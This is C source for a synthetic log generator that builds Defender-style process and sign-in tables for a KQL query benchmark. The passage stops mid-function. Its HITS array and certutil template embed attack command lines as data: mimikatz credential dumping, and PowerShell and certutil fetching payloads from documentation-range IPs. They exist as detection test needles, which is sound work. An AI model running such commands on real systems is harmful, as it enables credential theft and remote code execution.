/* bench/kql data: deterministic DeviceProcessEvents- and SigninLogs-shaped
 * tables over 30 days (June 2024), written as CSV for secpilot, DuckDB and SQLite.
 *
 * usage: gen [--rows N] [--signin-rows M] [--out DIR] [--seed S]
 *   N defaults to 10,000,000 process events; M to N/5 sign-ins. Writes
 *   DIR/DeviceProcessEvents.csv and DIR/SigninLogs.csv (RFC 4180, header row).
 *
 * Shape: 3,000 devices (busier servers), 5,000 user accounts plus the Windows
 * service accounts, ~400 process file names on a Zipf curve, command lines
 * from templates (a few hundred that repeat, and per-row unique ones from
 * browsers, encoded PowerShell and temp scripts), about 1 in 20,000 rows
 * naming mimikatz as a whole term (the `has` shape's term) and as many
 * naming it only inside a longer word (which `has` must not match). Times
 * follow a working-hours curve and are strictly increasing, unique to the
 * millisecond, so arg_max and top have no ties. */
#include <inttypes.h>
#include <math.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

/* ---------------------------------------------------------------- random */
static uint64_t rng_state;
static uint64_t rnd(void) { /* splitmix64 */
    uint64_t z = (rng_state += 0x9E3779B97F4A7C15ull);
    z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ull;
    z = (z ^ (z >> 27)) * 0x94D049BB133111EBull;
    return z ^ (z >> 31);
}
static uint64_t mix(uint64_t x) { /* stateless: stable per-entity values */
    x += 0x632BE59BD9B4E019ull;
    x ^= x >> 33, x *= 0xff51afd7ed558ccdull;
    x ^= x >> 33, x *= 0xc4ceb9fe1a85ec53ull;
    return x ^ (x >> 33);
}
static double unif(void) { return (double)(rnd() >> 11) * (1.0 / 9007199254740992.0); }
static uint32_t below(uint32_t n) { return (uint32_t)(((rnd() >> 32) * (uint64_t)n) >> 32); }
static bool chance(double p) { return unif() < p; }

/* A discrete distribution as a cumulative table, sampled by binary search. */
typedef struct {
    size_t n;
    double *cdf;
} dist;
static dist dist_make(const double *w, size_t n) {
    dist d = {n, malloc(n * sizeof(double))};
    double s = 0;
    for (size_t i = 0; i < n; i++) s += w[i];
    double acc = 0;
    for (size_t i = 0; i < n; i++) d.cdf[i] = (acc += w[i] / s);
    d.cdf[n - 1] = 1.0;
    return d;
}
static dist dist_zipf(size_t n, double s) {
    double *w = malloc(n * sizeof(double));
    for (size_t i = 0; i < n; i++) w[i] = 1.0 / pow((double)(i + 1), s);
    dist d = dist_make(w, n);
    free(w);
    return d;
}
static size_t draw(const dist *d) {
    double u = unif();
    size_t lo = 0, hi = d->n - 1;
    while (lo < hi) {
        size_t mid = (lo + hi) / 2;
        if (d->cdf[mid] < u) lo = mid + 1;
        else hi = mid;
    }
    return lo;
}

static void hexstr(char *out, uint64_t seed, int n) {
    static const char h[] = "0123456789abcdef";
    uint64_t x = 0;
    for (int i = 0; i < n; i++) {
        if (i % 16 == 0) x = mix(seed * 31 + (uint64_t)i);
        out[i] = h[(x >> ((i % 16) * 4)) & 15];
    }
    out[n] = 0;
}
static void guidstr(char *out, uint64_t seed) {
    char x[33];
    hexstr(x, seed, 32);
    sprintf(out, "%.8s-%.4s-%.4s-%.4s-%.12s", x, x + 8, x + 12, x + 16, x + 20);
}

/* ---------------------------------------------------------------- output */
typedef struct {
    FILE *f;
    char *buf;
    size_t n, cap;
    int col;
} csv;
static void csv_flush(csv *w) {
    if (w->n && fwrite(w->buf, 1, w->n, w->f) != w->n) {
        perror("gen: write");
        exit(1);
    }
    w->n = 0;
}
static void csv_raw(csv *w, const char *s, size_t n) {
    if (w->n + n > w->cap) csv_flush(w);
    memcpy(w->buf + w->n, s, n);
    w->n += n;
}
/* One cell; quoted (with doubled quotes) when it holds a comma or a quote. */
static void cell(csv *w, const char *s) {
    if (w->col++) csv_raw(w, ",", 1);
    size_t n = strlen(s);
    if (!strpbrk(s, ",\"\n\r")) {
        csv_raw(w, s, n);
        return;
    }
    csv_raw(w, "\"", 1);
    for (const char *p = s; *p; p++) {
        if (*p == '"') csv_raw(w, "\"\"", 2);
        else csv_raw(w, p, 1);
    }
    csv_raw(w, "\"", 1);
}
static void cellf(csv *w, const char *fmt, ...) __attribute__((format(printf, 2, 3)));
static void cellf(csv *w, const char *fmt, ...) {
    char b[4096];
    __builtin_va_list ap;
    __builtin_va_start(ap, fmt);
    vsnprintf(b, sizeof b, fmt, ap);
    __builtin_va_end(ap);
    cell(w, b);
}
static void endrow(csv *w) {
    csv_raw(w, "\n", 1);
    w->col = 0;
}
static csv csv_open(const char *dir, const char *name) {
    char path[4096];
    snprintf(path, sizeof path, "%s/%s", dir, name);
    csv w = {fopen(path, "wb"), malloc(1 << 22), 0, 1 << 22, 0};
    if (!w.f) {
        perror(path);
        exit(1);
    }
    return w;
}
static void csv_close(csv *w) {
    csv_flush(w);
    fclose(w->f);
    free(w->buf);
}

/* ------------------------------------------------------------------ time */
#define T0_MS 1717200000000LL /* 2024-06-01T00:00:00Z */
#define DAYS 30
#define HOURS (DAYS * 24)

static void fmt_time(char *out, int64_t ms) {
    int64_t s = ms / 1000, days = s / 86400, rem = s % 86400;
    /* civil from days (Howard Hinnant's algorithm) */
    int64_t z = days + 719468, era = z / 146097, doe = z - era * 146097;
    int64_t yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
    int64_t y = yoe + era * 400, doy = doe - (365 * yoe + yoe / 4 - yoe / 100), mp = (5 * doy + 2) / 153;
    int64_t d = doy - (153 * mp + 2) / 5 + 1, m = mp < 10 ? mp + 3 : mp - 9;
    y += m <= 2;
    sprintf(out, "%04d-%02d-%02dT%02d:%02d:%02d.%03dZ", (int)y, (int)m, (int)d, (int)(rem / 3600),
            (int)(rem / 60 % 60), (int)(rem % 60), (int)(ms % 1000));
}

/* Rows per hour: a working-day curve (weekends quieter, nights at a floor,
 * servers and services keep a baseline), summing exactly to `total`. */
static int64_t *hour_counts(int64_t total) {
    double w[HOURS], s = 0;
    for (int h = 0; h < HOURS; h++) {
        int day = h / 24, hod = h % 24;
        int dow = (day + 5) % 7; /* 0 = Monday; 2024-06-01 was a Saturday (5) */
        double x = 0.35;
        if (hod >= 8 && hod <= 18) x += 1.0;
        else if (hod == 7 || hod == 19) x += 0.5;
        if (dow >= 5) x = 0.35 + (x - 0.35) * 0.2;
        w[h] = x;
        s += x;
    }
    int64_t *c = malloc(HOURS * sizeof(int64_t)), given = 0;
    for (int h = 0; h < HOURS; h++) given += c[h] = (int64_t)(total * (w[h] / s));
    for (int h = 0; given < total; h = (h + 1) % HOURS) c[h]++, given++;
    return c;
}

/* ------------------------------------------------------------- entities */
#define NDEV 3000
#define NUSER 5000
#define NADMIN 40

static const char *FIRST[] = {"james", "mary", "john", "patricia", "robert", "jennifer", "michael", "linda", "william",
                              "elizabeth", "david", "barbara", "richard", "susan", "joseph", "jessica", "thomas", "sarah",
                              "charles", "karen", "chris", "nancy", "daniel", "lisa", "matthew", "betty", "anthony",
                              "margaret", "mark", "sandra", "donald", "ashley", "steven", "kimberly", "paul", "emily",
                              "andrew", "donna", "joshua", "michelle", "kenneth", "dorothy", "kevin", "carol", "brian",
                              "amanda", "george", "melissa", "edward", "deborah", "ronald", "stephanie", "timothy",
                              "rebecca", "jason", "sharon", "jeffrey", "laura", "ryan", "cynthia", "jacob", "kathleen",
                              "gary", "amy", "nicholas", "shirley", "eric", "angela", "jonathan", "helen", "stephen",
                              "anna", "larry", "brenda", "justin", "pamela", "scott", "nicole", "brandon", "emma"};
static const char *LAST[] = {"smith", "johnson", "williams", "brown", "jones", "garcia", "miller", "davis", "rodriguez",
                             "martinez", "hernandez", "lopez", "gonzalez", "wilson", "anderson", "thomas", "taylor",
                             "moore", "jackson", "martin", "lee", "perez", "thompson", "white", "harris", "sanchez",
                             "clark", "ramirez", "lewis", "robinson", "walker", "young", "allen", "king", "wright",
                             "scott", "torres", "nguyen", "hill", "flores", "green", "adams", "nelson", "baker", "hall",
                             "rivera", "campbell", "mitchell", "carter", "roberts", "kim", "patel", "shah", "muller",
                             "schmidt", "rossi", "dubois", "tanaka", "silva", "kowalski"};
#define NFIRST (sizeof FIRST / sizeof *FIRST)
#define NLAST (sizeof LAST / sizeof *LAST)

typedef struct {
    char name[40];    /* AccountName: first.last or first.lastN, lowercase */
    char display[48]; /* "First Last" */
    char id[37];      /* a guid */
    const char *country;
    uint32_t ip[2];
} user;

typedef struct {
    char id[41];   /* 40 hex digits, as Defender's DeviceId */
    char name[48]; /* lowercase FQDN */
    int owner;     /* primary user, or -1 for servers */
} device;

static user users[NUSER];
static device devices[NDEV];

static const char *COUNTRIES[] = {"US", "GB", "DE", "IN", "FR", "NL", "CA", "BR", "JP", "AU", "ES", "SG", "IE", "PL"};
static const double COUNTRY_W[] = {50, 10, 8, 8, 5, 4, 4, 3, 2, 2, 1.5, 1, 1, 0.5};
static const char *RARE_COUNTRIES[] = {"RU", "CN", "NG", "KP", "IR", "VN", "RO", "UA"};

static void make_entities(void) {
    dist cw = dist_make(COUNTRY_W, sizeof COUNTRY_W / sizeof *COUNTRY_W);
    for (int i = 0; i < NUSER; i++) {
        user *u = &users[i];
        const char *f = FIRST[mix(i * 2 + 1) % NFIRST], *l = LAST[mix(i * 2 + 2) % NLAST];
        /* names are unique: a repeated first.last gets a number */
        snprintf(u->name, sizeof u->name, "%s.%s", f, l);
        for (int j = 0, k = 1; j < i; j++)
            if (strcmp(users[j].name, u->name) == 0) {
                snprintf(u->name, sizeof u->name, "%s.%s%d", f, l, ++k);
                j = -1;
            }
        snprintf(u->display, sizeof u->display, "%c%s %c%s", f[0] - 32, f + 1, l[0] - 32, l + 1);
        guidstr(u->id, 0xA000000ull + (uint64_t)i);
        u->country = COUNTRIES[draw(&cw)];
        u->ip[0] = (uint32_t)mix(0xB0000ull + (uint64_t)i);
        u->ip[1] = (uint32_t)mix(0xC0000ull + (uint64_t)i);
    }
    free(cw.cdf);
    for (int i = 0; i < NDEV; i++) {
        device *d = &devices[i];
        hexstr(d->id, 0xD000000ull + (uint64_t)i, 40);
        /* the first 300 devices are servers: busier (Zipf head), no owner */
        if (i < 300) {
            static const char *roles[] = {"srv-dc", "srv-file", "srv-sql", "srv-web", "srv-app", "srv-exch", "srv-ci"};
            snprintf(d->name, sizeof d->name, "%s%02d.corp.contoso.com", roles[i % 7], i / 7 + 1);
            d->owner = -1;
        } else {
            static const char *kinds[] = {"wks", "lt", "desktop"};
            snprintf(d->name, sizeof d->name, "%s-%05d.corp.contoso.com", kinds[i % 3], (int)(mix(i) % 90000) + 10000);
            d->owner = (int)(mix(0xE000ull + (uint64_t)i) % NUSER);
        }
    }
}

/* ---------------------------------------------------------- process catalog */
/* Command-line kinds: each names a template family in make_cmd(). */
enum {
    C_SVCHOST, C_CONHOST, C_BROWSER, C_EDGE, C_PWSH, C_CMD, C_RUNDLL, C_OFFICE, C_DEFENDER, C_PLAIN, C_SEARCH,
    C_TASKHOST, C_DLLHOST, C_WMI, C_GIT, C_PYTHON, C_NET, C_SCHTASKS, C_MSIEXEC, C_REG, C_CERTUTIL, C_APP, C_TEAMS,
};

typedef struct {
    const char *name;
    const char *dir; /* folder; "%u" is replaced by the user's profile folder */
    const char *parent;
    int kind;
} proc;

static const proc PROCS[] = {
    {"svchost.exe", "C:\\Windows\\System32", "services.exe", C_SVCHOST},
    {"conhost.exe", "C:\\Windows\\System32", "cmd.exe", C_CONHOST},
    {"chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application", "chrome.exe", C_BROWSER},
    {"msedge.exe", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application", "msedge.exe", C_EDGE},
    {"RuntimeBroker.exe", "C:\\Windows\\System32", "svchost.exe", C_PLAIN},
    {"backgroundTaskHost.exe", "C:\\Windows\\System32", "svchost.exe", C_TASKHOST},
    {"SearchProtocolHost.exe", "C:\\Windows\\System32", "SearchIndexer.exe", C_SEARCH},
    {"powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0", "cmd.exe", C_PWSH},
    {"cmd.exe", "C:\\Windows\\System32", "explorer.exe", C_CMD},
    {"taskhostw.exe", "C:\\Windows\\System32", "svchost.exe", C_TASKHOST},
    {"dllhost.exe", "C:\\Windows\\System32", "svchost.exe", C_DLLHOST},
    {"SearchFilterHost.exe", "C:\\Windows\\System32", "SearchIndexer.exe", C_SEARCH},
    {"Teams.exe", "%u\\AppData\\Local\\Microsoft\\Teams\\current", "explorer.exe", C_TEAMS},
    {"WmiPrvSE.exe", "C:\\Windows\\System32\\wbem", "svchost.exe", C_WMI},
    {"MpCmdRun.exe", "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24050.7-0", "MsMpEng.exe",
     C_DEFENDER},
    {"rundll32.exe", "C:\\Windows\\System32", "svchost.exe", C_RUNDLL},
    {"msedgewebview2.exe", "C:\\Program Files (x86)\\Microsoft\\EdgeWebView\\Application\\125.0.2535.92", "explorer.exe",
     C_EDGE},
    {"OUTLOOK.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16", "explorer.exe", C_OFFICE},
    {"OneDrive.exe", "%u\\AppData\\Local\\Microsoft\\OneDrive", "explorer.exe", C_PLAIN},
    {"git.exe", "C:\\Program Files\\Git\\cmd", "Code.exe", C_GIT},
    {"WINWORD.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16", "explorer.exe", C_OFFICE},
    {"EXCEL.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16", "explorer.exe", C_OFFICE},
    {"smartscreen.exe", "C:\\Windows\\System32", "svchost.exe", C_PLAIN},
    {"consent.exe", "C:\\Windows\\System32", "svchost.exe", C_PLAIN},
    {"python.exe", "C:\\Program Files\\Python312", "cmd.exe", C_PYTHON},
    {"Code.exe", "%u\\AppData\\Local\\Programs\\Microsoft VS Code", "explorer.exe", C_APP},
    {"msiexec.exe", "C:\\Windows\\System32", "services.exe", C_MSIEXEC},
    {"sppsvc.exe", "C:\\Windows\\System32", "services.exe", C_PLAIN},
    {"CompatTelRunner.exe", "C:\\Windows\\System32", "svchost.exe", C_PLAIN},
    {"GoogleUpdate.exe", "C:\\Program Files (x86)\\Google\\Update", "svchost.exe", C_APP},
    {"MicrosoftEdgeUpdate.exe", "C:\\Program Files (x86)\\Microsoft\\EdgeUpdate", "svchost.exe", C_APP},
    {"net.exe", "C:\\Windows\\System32", "cmd.exe", C_NET},
    {"net1.exe", "C:\\Windows\\System32", "net.exe", C_NET},
    {"reg.exe", "C:\\Windows\\System32", "cmd.exe", C_REG},
    {"schtasks.exe", "C:\\Windows\\System32", "cmd.exe", C_SCHTASKS},
    {"sc.exe", "C:\\Windows\\System32", "cmd.exe", C_PLAIN},
    {"whoami.exe", "C:\\Windows\\System32", "cmd.exe", C_PLAIN},
    {"ipconfig.exe", "C:\\Windows\\System32", "cmd.exe", C_PLAIN},
    {"tasklist.exe", "C:\\Windows\\System32", "cmd.exe", C_PLAIN},
    {"wevtutil.exe", "C:\\Windows\\System32", "svchost.exe", C_PLAIN},
    {"gpupdate.exe", "C:\\Windows\\System32", "svchost.exe", C_PLAIN},
    {"TiWorker.exe", "C:\\Windows\\WinSxS\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.19041.4465",
     "svchost.exe", C_PLAIN},
    {"notepad.exe", "C:\\Windows\\System32", "explorer.exe", C_PLAIN},
    {"mstsc.exe", "C:\\Windows\\System32", "explorer.exe", C_PLAIN},
    {"certutil.exe", "C:\\Windows\\System32", "cmd.exe", C_CERTUTIL},
    {"wmic.exe", "C:\\Windows\\System32\\wbem", "cmd.exe", C_PLAIN},
    {"nslookup.exe", "C:\\Windows\\System32", "cmd.exe", C_PLAIN},
    {"PING.EXE", "C:\\Windows\\System32", "cmd.exe", C_PLAIN},
    {"curl.exe", "C:\\Windows\\System32", "cmd.exe", C_PLAIN},
    {"mshta.exe", "C:\\Windows\\System32", "explorer.exe", C_PLAIN},
    {"regsvr32.exe", "C:\\Windows\\System32", "cmd.exe", C_PLAIN},
    {"cscript.exe", "C:\\Windows\\System32", "cmd.exe", C_PLAIN},
    {"wscript.exe", "C:\\Windows\\System32", "explorer.exe", C_PLAIN},
    {"bitsadmin.exe", "C:\\Windows\\System32", "cmd.exe", C_PLAIN},
};
#define NPROCS_NAMED (sizeof PROCS / sizeof *PROCS)
#define NPROCS 400 /* the rest are vendor apps: "<vendor><n>.exe" */

static const char *VENDORS[] = {"Adobe", "Zoom", "Slack", "Citrix", "VMware", "Cisco", "Dell", "HP", "Lenovo", "Intel",
                                "NVIDIA", "Realtek", "Logitech", "Splunk", "CrowdStrike", "Tanium", "Qualys", "Okta",
                                "Dropbox", "Box", "Atlassian", "JetBrains", "Docker", "Oracle", "SAP"};
#define NVENDORS (sizeof VENDORS / sizeof *VENDORS)

typedef struct {
    char name[48];
    char dir[200];
    const char *parent;
    int kind;
    char sha[3][65]; /* up to three versions */
} pentry;
static pentry catalog[NPROCS];

static void make_catalog(void) {
    for (int i = 0; i < NPROCS; i++) {
        pentry *p = &catalog[i];
        if (i < (int)NPROCS_NAMED) {
            snprintf(p->name, sizeof p->name, "%s", PROCS[i].name);
            snprintf(p->dir, sizeof p->dir, "%s", PROCS[i].dir);
            p->parent = PROCS[i].parent;
            p->kind = PROCS[i].kind;
        } else {
            const char *v = VENDORS[i % NVENDORS];
            static const char *suffix[] = {"Agent", "Updater", "Service", "Helper", "Tray", "Launcher", "Sync", "Host"};
            snprintf(p->name, sizeof p->name, "%s%s%d.exe", v, suffix[(i / NVENDORS) % 8], i / (int)(NVENDORS * 8));
            snprintf(p->dir, sizeof p->dir, "C:\\Program Files\\%s\\%s", v, suffix[(i / NVENDORS) % 8]);
            p->parent = i % 3 ? "services.exe" : "explorer.exe";
            p->kind = C_APP;
        }
        for (int k = 0; k < 3; k++) hexstr(p->sha[k], 0x5000000ull + (uint64_t)i * 4 + (uint64_t)k, 64);
    }
}

/* ---------------------------------------------------------- command lines */
static const char *SVC_GROUPS[] = {"netsvcs", "LocalServiceNetworkRestricted", "LocalSystemNetworkRestricted",
                                   "NetworkService", "LocalService", "DcomLaunch", "RPCSS", "UnistackSvcGroup",
                                   "appmodel", "wsappx"};
static const char *SERVICES[] = {"Schedule", "BITS", "wuauserv", "Winmgmt", "gpsvc", "ProfSvc", "Themes", "SENS",
                                 "UserManager", "ShellHWDetection", "LanmanWorkstation", "LanmanServer", "Dnscache",
                                 "CryptSvc", "Dhcp", "EventLog", "nsi", "W32Time", "WinHttpAutoProxySvc", "TokenBroker",
                                 "CDPSvc", "DoSvc", "StateRepository", "TimeBrokerSvc", "WpnService", "Appinfo", "lmhosts",
                                 "iphlpsvc", "BFE", "mpssvc", "DiagTrack", "SysMain", "StorSvc", "camsvc", "WSearch"};
static const char *SCRIPTS[] = {"Invoke-Inventory", "Get-PatchState", "Set-Baseline", "Sync-Printers", "Backup-Config",
                                "Test-Compliance", "Install-Agent", "Clear-TempFiles", "Update-Signatures",
                                "Get-DiskReport", "Rotate-Logs", "Check-Certificates", "Map-Drives", "Collect-Telemetry"};
static const char *DLLS[] = {"shell32.dll,SHCreateLocalServerRunDll",
                             "C:\\Windows\\System32\\Windows.Storage.ApplicationData.dll,CleanupTemporaryState",
                             "C:\\Windows\\system32\\inetcpl.cpl,ClearMyTracksByProcess Flags:65800 WinX:0 WinY:0",
                             "C:\\Windows\\System32\\LogiLDA.dll,LogiFetch", "printui.dll,PrintUIEntryDPIAware",
                             "C:\\Windows\\system32\\PcaSvc.dll,PcaPatchSdbTask", "dfshim.dll,ShOpenVerbApplication",
                             "advpack.dll,DelNodeRunDLL32", "C:\\Windows\\System32\\davclnt.dll,DavSetCookie"};
static const char *DOCS[] = {"Quarterly Report", "Budget 2024", "Team Roster", "Meeting Notes", "Project Plan",
                             "Invoice", "Contract Draft", "Roadmap", "Status Update", "Expenses"};
static const char *NET_CMDS[] = {"use", "user", "group \"Domain Admins\" /domain", "localgroup administrators",
                                 "view", "session", "share", "time \\\\srv-dc01", "accounts", "config workstation"};
static const char *PLAIN_ARGS[] = {"", "", "", " /all", " /query", " /v", " -s", " /quiet", " /nologo", " /?"};

/* A base64-looking run (for -EncodedCommand): letters and digits only. */
static void b64ish(char *out, int n) {
    static const char a[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    for (int i = 0; i < n; i++) out[i] = a[below(64)];
    out[n] = 0;
}

static void make_cmd(char *out, size_t cap, const pentry *p, const char *path, const user *u) {
    const char *acct = u ? u->name : "public";
    char g[37], b[512];
    switch (p->kind) {
    case C_SVCHOST:
        snprintf(out, cap, "C:\\WINDOWS\\system32\\svchost.exe -k %s -p -s %s", SVC_GROUPS[below(10)],
                 SERVICES[below(sizeof SERVICES / sizeof *SERVICES)]);
        break;
    case C_CONHOST:
        snprintf(out, cap, "\\??\\C:\\WINDOWS\\system32\\conhost.exe 0xffffffff -ForceV1");
        if (chance(0.3)) snprintf(out, cap, "\\??\\C:\\WINDOWS\\system32\\conhost.exe --headless --width 80 --height 25");
        break;
    case C_BROWSER:
    case C_EDGE: {
        static const char *types[] = {"renderer", "utility", "gpu-process", "crashpad-handler"};
        const char *t = types[below(4)];
        if (chance(0.2)) snprintf(out, cap, "\"%s\" --profile-directory=Default", path);
        else
            snprintf(out, cap,
                     "\"%s\" --type=%s --field-trial-handle=%u,i,%" PRIu64 ",%" PRIu64
                     ",262144 --lang=en-US --renderer-client-id=%u --launch-time-ticks=%" PRIu64 " /prefetch:%u",
                     path, t, 1900 + below(300), (uint64_t)(rnd() % 10000000000000000000ull), (uint64_t)(rnd() % 10000000000000000000ull),
                     4 + below(400), (uint64_t)(100000000ull + rnd() % 90000000000ull), 1 + below(8));
        break;
    }
    case C_PWSH: {
        double x = unif();
        if (x < 0.45)
            snprintf(out, cap, "powershell.exe -ExecutionPolicy Bypass -NoProfile -File C:\\ProgramData\\IT\\scripts\\%s.ps1",
                     SCRIPTS[below(sizeof SCRIPTS / sizeof *SCRIPTS)]);
        else if (x < 0.65)
            snprintf(out, cap, "\"%s\" -NoLogo -NonInteractive -Command \"Get-Service %s | Select-Object Status\"", path,
                     SERVICES[below(sizeof SERVICES / sizeof *SERVICES)]);
        else if (x < 0.8) {
            b64ish(b, 40 + (int)below(160));
            snprintf(out, cap, "powershell.exe -NoP -NonI -W Hidden -EncodedCommand %s", b);
        } else if (x < 0.9)
            snprintf(out, cap, "\"%s\"", path);
        else {
            guidstr(g, rnd());
            snprintf(out, cap,
                     "powershell.exe -ExecutionPolicy AllSigned -NoProfile -NonInteractive -Command \"& "
                     "{$OutputEncoding = [Console]::OutputEncoding =[System.Text.Encoding]::UTF8;$scriptFileStream = "
                     "[System.IO.File]::Open('C:\\ProgramData\\Microsoft\\Windows Defender Advanced Threat "
                     "Protection\\Downloads\\PSScript_%s.ps1', [System.IO.FileMode]::Open)}\"",
                     g);
        }
        break;
    }
    case C_CMD: {
        double x = unif();
        if (x < 0.4) snprintf(out, cap, "C:\\WINDOWS\\system32\\cmd.exe /c \"\"C:\\ProgramData\\IT\\logon.cmd\" \"");
        else if (x < 0.6) {
            guidstr(g, rnd());
            snprintf(out, cap, "cmd.exe /c C:\\Windows\\Temp\\%s.bat", g);
        } else if (x < 0.8)
            snprintf(out, cap, "cmd.exe /c %s", below(2) ? "ipconfig /all" : "whoami /groups");
        else snprintf(out, cap, "\"C:\\WINDOWS\\system32\\cmd.exe\"");
        break;
    }
    case C_RUNDLL:
        snprintf(out, cap, "rundll32.exe %s", DLLS[below(sizeof DLLS / sizeof *DLLS)]);
        break;
    case C_OFFICE:
        if (chance(0.5)) snprintf(out, cap, "\"%s\"", path);
        else
            snprintf(out, cap, "\"%s\" /n \"C:\\Users\\%s\\Documents\\%s %u.docx\" /o \"\"", path, acct,
                     DOCS[below(10)], below(50));
        break;
    case C_DEFENDER:
        snprintf(out, cap, "\"%s\" %s", path,
                 below(3) ? "-wdenable" : (below(2) ? "SignaturesUpdateService -ScheduleJob -UnmanagedUpdate"
                                                    : "-IdleTask -TaskName WdCacheMaintenance"));
        break;
    case C_SEARCH:
        snprintf(out, cap, "\"%s\" Global\\UsGthrFltPipeMssGthrPipe%u Global\\UsGthrCtrlFltPipeMssGthrPipe%u 1 -2147483646 "
                 "\"Software\\Microsoft\\Windows Search\" \"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 "
                 "Robot)\" \"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc\" \"DownLevelDaemon\"",
                 path, 1 + below(300), 1 + below(300));
        break;
    case C_TASKHOST:
        snprintf(out, cap, "%s%s", p->name, below(2) ? " -ServerName:BackgroundTaskHost.WebAccountProvider" : "");
        break;
    case C_DLLHOST:
        guidstr(g, mix(below(25)));
        snprintf(out, cap, "C:\\WINDOWS\\system32\\DllHost.exe /Processid:{%s}", g);
        break;
    case C_WMI:
        snprintf(out, cap, "C:\\WINDOWS\\system32\\wbem\\wmiprvse.exe -secured -Embedding");
        break;
    case C_GIT: {
        static const char *g_[] = {"fetch origin", "status --porcelain", "pull --rebase", "log --oneline -n 20",
                                   "rev-parse HEAD", "config --get remote.origin.url"};
        snprintf(out, cap, "\"%s\" %s", path, g_[below(6)]);
        break;
    }
    case C_PYTHON:
        snprintf(out, cap, "\"%s\" C:\\Users\\%s\\src\\project%u\\%s.py", path, acct, below(12),
                 below(2) ? "main" : "etl_job");
        break;
    case C_NET:
        snprintf(out, cap, "%s %s", p->name, NET_CMDS[below(10)]);
        break;
    case C_SCHTASKS:
        snprintf(out, cap, "schtasks.exe /query /tn \"\\Microsoft\\Windows\\%s\\%s\" /fo LIST", SERVICES[below(10)],
                 SCRIPTS[below(5)]);
        break;
    case C_MSIEXEC:
        guidstr(g, mix(below(60) + 777));
        snprintf(out, cap, "C:\\Windows\\System32\\msiexec.exe /%s {%s} /qn", below(2) ? "i" : "x", g);
        break;
    case C_REG:
        snprintf(out, cap, "reg.exe query \"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\%s\" /v %s",
                 below(2) ? "Run" : "Policies\\System", below(2) ? "EnableLUA" : "ConsentPromptBehaviorAdmin");
        break;
    case C_CERTUTIL:
        if (chance(0.9)) snprintf(out, cap, "certutil.exe -verifyctl -split -f \"AuthRoot\"");
        else
            snprintf(out, cap, "certutil.exe -urlcache -split -f http://203.0.113.%u/update%u.bin C:\\Users\\Public\\u.bin",
                     below(250) + 1, below(9));
        break;
    case C_TEAMS:
        snprintf(out, cap, "\"%s\" %s", path, below(2) ? "--process-start-type=launch" : "--system-initiated");
        break;
    case C_APP:
        snprintf(out, cap, "\"%s\"%s", path, below(3) ? "" : (below(2) ? " --background" : " /silent /update"));
        break;
    default:
        snprintf(out, cap, "%s%s", p->name, PLAIN_ARGS[below(10)]);
        break;
    }
}

/* The `has` shape's needles: lines where "mimikatz" is a whole term (any
 * case), and look-alikes where it is only part of a longer term. */
static const char *HITS[] = {
    "\"C:\\Users\\%s\\Downloads\\mimikatz.exe\" \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
    "powershell.exe -ep bypass -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/Invoke-Mimikatz.ps1'); "
    "Invoke-Mimikatz -DumpCreds\"",
    "cmd.exe /c C:\\ProgramData\\mimikatz\\x64\\MIMIKATZ.EXE \"lsadump::sam\" exit > C:\\Users\\%s\\out.txt",
    "rundll32.exe C:\\Windows\\Temp\\mimikatz.dll,main",
    "powershell.exe -c \"Get-Content C:\\Users\\%s\\notes.txt | Select-String MimiKatz\"",
};
static const char *NEAR_MISSES[] = {
    "notepad.exe C:\\Users\\%s\\Downloads\\mimikatzx64\\README.md",
    "\"C:\\Program Files\\Contoso\\AntiMimikatz\\amk.exe\" --scan",
    "powershell.exe -File C:\\ProgramData\\IT\\scripts\\Detect-Mimikatzlike.ps1",
    "cmd.exe /c type C:\\Users\\%s\\mimikatzlogs.txt",
};

/* ---------------------------------------------------------------- tables */
static void gen_process_events(const char *dir, int64_t rows) {
    csv w = csv_open(dir, "DeviceProcessEvents.csv");
    static const char *hdr[] = {"Timestamp", "DeviceId", "DeviceName", "ActionType", "FileName", "FolderPath", "SHA256",
                                "ProcessId", "ProcessCommandLine", "ProcessIntegrityLevel", "AccountDomain",
                                "AccountName", "InitiatingProcessFileName", "InitiatingProcessId",
                                "InitiatingProcessCommandLine", "ReportId"};
    for (size_t i = 0; i < sizeof hdr / sizeof *hdr; i++) cell(&w, hdr[i]);
    endrow(&w);
    dist devd = dist_zipf(NDEV, 0.6), procd = dist_zipf(NPROCS, 1.05);
    int64_t *per_hour = hour_counts(rows);
    char ts[40], folder[256], path[320], cmd[1536], pcmd[512];
    int64_t row = 0;
    for (int h = 0; h < HOURS; h++) {
        int64_t n = per_hour[h];
        for (int64_t j = 0; j < n; j++, row++) {
            int64_t ms = T0_MS + (int64_t)h * 3600000 + (int64_t)(((double)j + unif()) * 3600000.0 / (double)n);
            fmt_time(ts, ms);
            const device *d = &devices[draw(&devd)];
            /* who: the device's owner, a service account, or an admin */
            const user *u = NULL;
            const char *acct, *domain = "contoso", *integrity = "Medium";
            double a = unif();
            if (a < 0.30 || (d->owner < 0 && a < 0.75)) {
                acct = a < 0.22 ? "system" : (a < 0.26 ? "local service" : "network service");
                domain = "nt authority";
                integrity = "System";
            } else {
                if (d->owner >= 0 && a < 0.95) u = &users[d->owner];
                else u = &users[below(NADMIN) * 97 % NUSER]; /* a few admins roam */
                acct = u->name;
                if (chance(0.15)) integrity = "High";
            }
            const pentry *p = &catalog[draw(&procd)];
            if (strncmp(p->dir, "%u", 2) == 0)
                snprintf(folder, sizeof folder, "C:\\Users\\%s%s", u ? u->name : "Public", p->dir + 2);
            else snprintf(folder, sizeof folder, "%s", p->dir);
